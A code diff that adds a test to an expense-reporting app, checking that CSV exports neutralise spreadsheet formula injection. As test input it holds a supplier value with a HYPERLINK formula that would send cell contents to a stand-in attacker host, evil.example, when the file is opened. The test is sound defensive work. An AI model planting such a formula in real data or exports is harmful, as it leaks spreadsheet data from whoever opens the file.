@@ -791,3 +791,36 @@ def test_figures_draw_every_bar_with_its_exact_amount(session, ledger):
     assert list(pie.data[0].labels) == list(dashboard.payers["payer"]) and pie.data[0].sort is False
     aging = figures.ar_aging_figure(dashboard.aging)
     assert list(aging.data[0].x) == [BUCKET_LABELS[b] for b in BUCKETS]
+
+
+def test_exports_never_hand_a_spreadsheet_a_formula(session, ledger):
+    """A supplier typed as a formula would run in Excel when a manager opens the export."""
+    expenses.record_expense(
+        session,
+        actor=SYSTEM_ACTOR,
+        data={
+            "category": "supplies",
+            "department_id": "",
+            "supplier": '=HYPERLINK("http://evil.example/?"&A1,"Medline")',
+            "description": "Monthly",
+            "amount": "12.00",
+            "incurred_on": "2026-02-10",
+        },
+    )
+    text_csv, _ = reports.drill_csv(
+        session, actor=MANAGER, figure="expenses_by_category", key="supplies", filters=PERIOD
+    )
+    suppliers = [row[2] for row in csv.reader(io.StringIO(text_csv))][1:]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Medline")' in suppliers
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in suppliers)
+    frame = pd.DataFrame(
+        {"supplier": ["@SUM(A1:A9)", "-2+3", "Medline", "\tx"], "amount_cents": [1, -2, 3, 4]}
+    )
+    rows = list(csv.DictReader(io.StringIO(frame_csv(frame))))
+    assert [row["supplier"] for row in rows] == ["'@SUM(A1:A9)", "'-2+3", "Medline", "'\tx"]
+    assert [row["amount"] for row in rows] == [
+        money(1),
+        money(-2),
+        money(3),
+        money(4),
+    ]  # amounts stay numbers
